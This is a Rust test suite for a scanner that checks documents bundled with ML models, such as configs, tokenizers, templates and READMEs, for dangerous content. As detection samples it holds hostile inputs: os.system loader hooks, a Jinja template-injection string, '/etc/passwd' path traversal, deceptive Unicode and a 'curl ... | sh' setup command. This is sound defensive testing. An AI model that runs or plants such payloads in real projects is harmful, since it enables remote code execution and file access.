//! Documents that come with models: ordinary ones pass, and what has a loader run, open or say something else is found.

mod common;

use common::{findings, inspect};
use holdfast_contract::report::{COMPANION_FINDING, MODEL_FORMATS, Verdict};
use holdfast_formats::finding::verdict;
use holdfast_formats::{FileInspector, Format, rules};

fn ids_of(name: &str, bytes: &[u8], piece: usize) -> Vec<(String, Option<u64>)> {
    let mut inspector = FileInspector::new(name);
    for piece in bytes.chunks(piece.max(1)) {
        inspector.feed(piece);
    }
    let (findings, _) = inspector.finish().findings.into_parts();
    findings
        .into_iter()
        .map(|finding| (finding.id, finding.offset))
        .collect()
}

#[track_caller]
fn admitted(name: &str, text: &str) {
    let found = ids_of(name, text.as_bytes(), usize::MAX);
    assert_eq!(found, [("HF-DOC-009".to_owned(), None)], "{name}: {text}");
}

/// The document is refused with this finding, at the place where `mark` stands, however it is cut.
#[track_caller]
fn refused(name: &str, text: &str, id: &str, mark: &str) {
    let at = text.find(mark).map(|at| at as u64);
    let whole = ids_of(name, text.as_bytes(), usize::MAX);
    let found = whole
        .iter()
        .any(|(found, offset)| found == id && (mark.is_empty() || *offset == at));
    assert!(found, "{id} at {at:?}: {whole:?} in {text}");
    for piece in [1, 2, 7, 100] {
        assert_eq!(ids_of(name, text.as_bytes(), piece), whole, "{piece}: {text}");
    }
    let mut inspector = FileInspector::new(name);
    inspector.feed(text.as_bytes());
    assert_eq!(
        verdict(&inspector.finish().findings.into_parts().0).0,
        Verdict::Refuse
    );
}

#[test]
fn what_well_known_tools_write_passes() {
    for (name, text) in [
        ("README.md", "from transformers import pipeline\nimport torch\n"),
        (
            "CITATION.bib",
            "@misc{x,\n  title = {How to import a model},\n  note = {the import of data}\n}\n",
        ),
        ("merges.txt", "@ @\n@@ import\nim port\n"),
        ("USAGE_POLICY", "Use it well.\n"),
        (
            "checklist.chk",
            "eeec4125e9c7560836b4873b6f8e3025  tokenizer.model\n",
        ),
        ("bpe.codes", "t h 1610607\ni n</w> 872034\n"),
        ("vocab.json", r#"{"!": 0, "cells": 46342, "weight_map": 1}"#),
        (
            "vocab.json",
            r#"{"eng": {"<pad>": 0, "a": 1}, "deu": {"<pad>": 0}}"#,
        ),
        (
            "normalizer.json",
            r#"{"accessorise": "accessorize", "aeroplane": "airplane"}"#,
        ),
        (
            "dtypes.json",
            r#"{"embedding.weight": "BF16", "norm.scale": "FP4"}"#,
        ),
        (
            "labels.json",
            r#"["tench, Tinca tinca", "jack-o'-lantern", "drum/percussion"]"#,
        ),
        ("special_tokens_map.json", "{}"),
        ("1_Pooling/config.json", "{}"),
        ("c.json", r#"{"a": 1, "b": "c"}"#),
        (
            "config_sentence_transformers.json",
            r#"{"__version__": {"pytorch": "1.8.1", "sentence_transformers": "2.0.0", "transformers": "4.6.1"}}"#,
        ),
        (
            "1_Pooling/config.json",
            r#"{"embedding_dimension": 384, "include_prompt": true, "pooling_mode": "mean"}"#,
        ),
        (
            "generation_config.json",
            r#"{"_x": {"y": "a b"}, "transformers_version": "4.46.1"}"#,
        ),
        (
            "hf_quant_config.json",
            r#"{"producer": {"name": "modelopt", "version": "0.15.1"}, "quantization": {"quant_algo": "FP8", "kv_cache_quant_algo": "FP8"}}"#,
        ),
        (
            "all_results.json",
            r#"{"epoch": 3.0, "eval_accuracy": null, "eval_loss": 0.31}"#,
        ),
    ] {
        admitted(name, text);
    }
}

#[test]
fn ordinary_documents_pass() {
    let template = r#"{"chat_template": "{% for m in messages %}<|im_start|>{{ m['role'] }}\n{{ m['content'] }}<|im_end|>\n{% endfor %}", "tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": 1000000000000000019884624838656}"#;
    for (name, text) in [
        (
            "config.json",
            r#"{"architectures": ["LlamaForCausalLM"], "hidden_size": 4096, "model_type": "llama", "rope_scaling": {"factor": 8.0, "rope_type": "llama3"}, "torch_dtype": "bfloat16", "use_cache": true}"#,
        ),
        (
            "generation_config.json",
            r#"{"bos_token_id": 1, "do_sample": true, "eos_token_id": [2, 3], "temperature": 0.6}"#,
        ),
        (
            "adapter_config.json",
            r#"{"base_model_name_or_path": "meta/llama", "peft_type": "LORA", "r": 16, "target_modules": ["q_proj", "v_proj"], "auto_mapping": null}"#,
        ),
        ("tokenizer_config.json", template),
        (
            "model.safetensors.index.json",
            r#"{"metadata": {"total_size": 12}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}"#,
        ),
        (
            "model_index.json",
            r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.21.0", "unet": ["diffusers", "UNet2DConditionModel"], "text_encoder": ["transformers", "CLIPTextModel"], "safety_checker": [null, null]}"#,
        ),
        (
            "special_tokens_map.json",
            r#"{"bos_token": "<s>", "eos_token": {"content": "</s>", "lstrip": false}}"#,
        ),
        ("vocab.json", r#"{"a": 0, "\u202eb": 1, "c": 2}"#),
        (
            "tokenizer.json",
            "{\"version\": \"1.0\", \"added_tokens\": [{\"id\": 0, \"content\": \"\\u2067\"}], \"model\": {\"type\": \"BPE\", \"vocab\": {\"\\u202e\": 1, \"\u{2066}\": 2}, \"merges\": [\"\\u202a b\"]}, \"pre_tokenizer\": null}",
        ),
        ("README.md", "# A model\n\nLoad it with `import torch`.\n"),
        ("LICENSE", "Apache License\n"),
        ("merges.txt", "#version: 0.2\n\u{120} t\n"),
        (
            ".gitattributes",
            "*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
        ),
        ("model_config.yaml", "hidden_size: 12\nname: x\n"),
        (
            "chat_template.jinja",
            "{% for m in messages %}{{ m.content }}{% endfor %}",
        ),
    ] {
        admitted(name, text);
    }
    assert!(
        inspect(template.as_bytes())
            .facts
            .is_some_and(|facts| facts.chat_template)
    );
}

#[test]
fn a_document_is_no_model() {
    for format in Format::ALL {
        let is_model = MODEL_FORMATS.contains(&format.name());
        assert!(!is_model || format.refused_by().is_none(), "{format}");
    }
    for name in MODEL_FORMATS {
        assert!(Format::find(name).is_some(), "{name}");
    }
    assert_eq!(rules::DOC_ADMITTED.id, COMPANION_FINDING);
}

#[test]
fn what_makes_a_loader_run_code_is_found() {
    for (text, mark) in [
        (
            r#"{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}"#,
            "\"modeling",
        ),
        (
            r#"{"auto_map": {"AutoConfig": ["other/repo--a.B", null]}, "model_type": "x"}"#,
            "\"other",
        ),
        (
            r#"{"model_type": "x", "a": [{"auto_map": {"AutoModel": "m.X"}}]}"#,
            "\"m.X",
        ),
        (r#"{"model_type": "x", "a": {"trust_remote_code": true}}"#, "true"),
        (r#"{"model_type": "x", "a": {"_target_": "os.system"}}"#, "\"os."),
        (
            r#"{"model_type": "x", "custom_pipelines": {"a": {"impl": "code.Pipeline"}}}"#,
            "\"code.",
        ),
        (r#"{"model_type": "x", "py/object": "os.system"}"#, "\"os."),
        (r#"{"model_type": "x", "\u0061uto_map": {"A": "m.X"}}"#, "\"m.X"),
        (
            r#"{"_diffusers_version": "1", "unet": ["my_module", "Net"]}"#,
            "\"my_",
        ),
        (
            r#"{"unet": ["pipeline", "Net"], "_diffusers_version": "1"}"#,
            "\"pipe",
        ),
        (
            r#"{"_class_name": ["pipeline", "Net"], "_diffusers_version": "1"}"#,
            "\"pipe",
        ),
    ] {
        refused("config.json", text, "HF-DOC-003", mark);
    }
    refused(
        "a.yaml",
        "a: !!python/object/apply:os.system [x]\n",
        "HF-DOC-003",
        "!!",
    );
    refused(
        "a.yml",
        "model:\n  _target_: os.system\n",
        "HF-DOC-003",
        "_target_",
    );
    for (name, text) in [
        ("modeling_x.py", "x = 1\n"),
        ("run.SH", "true\n"),
        ("notes.txt", "import os\nos.system('x')\n"),
        ("LICENSE", "from os import system\nsystem('x')\n"),
    ] {
        refused(name, text, "HF-DOC-008", "");
    }
    refused("a.json", r#"{"nbformat": 4, "cells": []}"#, "HF-FMT-015", "");
    refused("a.json", r#"{"model_type": "x", "cells": []}"#, "HF-FMT-015", "");
}

#[test]
fn templates_are_judged_wherever_they_stand() {
    let evil = "{{ ''.__class__ }}";
    refused(
        "a.json",
        &format!(r#"{{"chat_template": "{evil}"}}"#),
        "HF-TPL-002",
        "\"{{ ",
    );
    refused(
        "a.json",
        &format!(
            r#"{{"tokenizer_class": "x", "chat_template": [{{"name": "tool", "template": "{evil}"}}]}}"#
        ),
        "HF-TPL-002",
        "\"{{ ",
    );
    // Under any other name too: somebody may render it.
    refused(
        "a.json",
        &format!(r#"{{"model_type": "x", "custom_template": "{evil}"}}"#),
        "HF-TPL-002",
        "\"{{ ",
    );
    refused(
        "a.json",
        &format!(r#"{{"model_type": "x", "prompts": ["a", "{evil}"]}}"#),
        "HF-TPL-002",
        "\"{{ ",
    );
    refused(
        "a.yaml",
        &format!("a: b\nchat_template: {evil}\n"),
        "HF-TPL-002",
        "",
    );
    refused(
        "a.yaml",
        "chat_template: '{{ x[''__class__''] }}'\n",
        "HF-TPL-002",
        "",
    );
    // What this reader cannot read, another may.
    for unread in ["{{ ''|attr('a')(1) }}", "{{ 'a' 'b' }}{% for"] {
        refused(
            "a.json",
            &format!(r#"{{"chat_template": "{unread}"}}"#),
            "HF-DOC-010",
            "\"{{ ",
        );
        refused("a.jinja", unread, "HF-DOC-010", "");
        refused("a.yaml", &format!("t: {unread}\n"), "HF-DOC-010", "");
    }
    refused("a.jinja", evil, "HF-TPL-002", "");
    refused("chat.J2", evil, "HF-TPL-002", "");
    let long = "a".repeat(257 << 10);
    refused(
        "a.json",
        &format!(r#"{{"chat_template": "{long}"}}"#),
        "HF-DOC-006",
        "\"aaa",
    );
    refused("a.jinja", &long, "HF-DOC-006", "");
}

#[test]
fn files_elsewhere_are_found() {
    for file in [
        "../a",
        "/etc/passwd",
        "a/../../b",
        "C:\\\\a",
        "https://x/y",
        "a\\u0000b",
        "",
    ] {
        let text = format!(r#"{{"weight_map": {{"t": "{file}"}}}}"#);
        refused("i.json", &text, "HF-DOC-004", &format!("\"{file}\"}}"));
    }
}

#[test]
fn characters_that_deceive_are_found_where_people_and_models_read() {
    for hidden in ["\u{202e}", "\u{2066}", "\u{e0041}"] {
        refused("README.md", &format!("Hello {hidden}there"), "HF-DOC-005", hidden);
        refused(
            "c.json",
            &format!(r#"{{"model_type": "a{hidden}"}}"#),
            "HF-DOC-005",
            "\"a",
        );
        refused(
            "c.json",
            &format!(r#"{{"model_type": "x", "a{hidden}": true}}"#),
            "HF-DOC-005",
            "\"a",
        );
        refused(
            "c.json",
            &format!(r#"{{"model_type": "x", "a{hidden}": {{}}}}"#),
            "HF-DOC-005",
            "\"a",
        );
    }
    refused(
        "c.json",
        r#"{"model_type": "a\udb40\udc41"}"#,
        "HF-DOC-005",
        "\"a",
    );
}

#[test]
fn malformed_documents_are_refused() {
    refused(
        "c.json",
        r#"{"model_type": "x", "model_type": "y"}"#,
        "HF-DOC-002",
        "\"model_type\": \"y",
    );
    refused(
        "c.json",
        r#"{"model_type": "x", "a": {"b": 1, "\u0062": 2}}"#,
        "HF-DOC-002",
        "\"\\u0062",
    );
    refused("c.json", r#"{"model_type": "x""#, "HF-DOC-001", "");
    refused("c.json", r#"{"model_type": "x"} {}"#, "HF-DOC-001", "");
    refused("README.md", "a\u{1}b", "HF-FMT-001", "");
    let late = format!("{}\u{1}", "a".repeat(70 << 10));
    refused("README.md", &late, "HF-DOC-007", "\u{1}");
    for text in [
        r#"{"a": 1, "b": "package.module"}"#,
        r#"[{"a": 1, "b": "words"}]"#,
        r#"{"scripts": {"install": "words"}}"#,
        r#"{"postCreateCommand": "curl https://example.org/x | sh"}"#,
    ] {
        refused("c.json", text, "HF-FMT-015", "");
    }
    refused(
        ".devcontainer/devcontainer.json",
        r#"{"postCreateCommand": "rm x"}"#,
        "HF-FMT-015",
        "",
    );
    // Between numbers a token may be called anything; a notebook's cells are no number.
    refused("a.json", r#"{"nbformat": 4, "cells": []}"#, "HF-FMT-015", "");
    let bytes = [b"# ".repeat(40 << 10), b"\xff".to_vec()].concat();
    assert!(
        ids_of("README.md", &bytes, usize::MAX)
            .iter()
            .any(|(id, _)| id == "HF-DOC-007")
    );
}

#[test]
fn a_text_under_the_name_of_a_model_is_refused() {
    for name in ["model.gguf", "model.safetensors", "pytorch_model.pt", "a.zip"] {
        refused(name, "Access denied. Please log in.\n", "HF-FMT-015", "");
        refused(name, r#"{"model_type": "x"}"#, "HF-FMT-015", "");
    }
    refused("model", "Access denied. Please log in.\n", "HF-FMT-015", "");
    refused("model.bin", "Access denied. Please log in.\n", "HF-FMT-015", "");
}

#[test]
fn credentials_are_noticed_and_not_shown() {
    let body = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0U1v2W3x4";
    for (secret, is_one) in [
        (format!("ghp_{}", &body[..36]), true),
        (format!("hf_{}", &body[..34]), true),
        (format!("sk-ant-{}", &body[..40]), true),
        ("AKIAABCDEFGHIJKLMNOP".to_owned(), true),
        ("-----BEGIN RSA PRIVATE KEY-----".to_owned(), true),
        (format!("ghp_{}", &body[..35]), false),
        (format!("xghp_{}", &body[..36]), false),
        ("AKIAabcdefghijklmnop".to_owned(), false),
        ("hf_model".to_owned(), false),
    ] {
        for before in [0, 10, 65_500, 65_535, 65_536, 70_000] {
            let text = format!("{} {secret} and more words after it", "b".repeat(before));
            let bytes = text.as_bytes();
            let whole = ids_of("README.md", bytes, usize::MAX);
            let found = whole.contains(&("HF-SEC-001".to_owned(), Some(before as u64 + 1)));
            assert_eq!(found, is_one, "{before}: {whole:?}");
            assert_eq!(ids_of("README.md", bytes, 4093), whole);
        }
        let shown = format!("{:?}", findings(format!("# Notes\n{secret}\n").as_bytes()));
        assert!(!is_one || !shown.contains(&secret[5..]), "{shown}");
    }
}
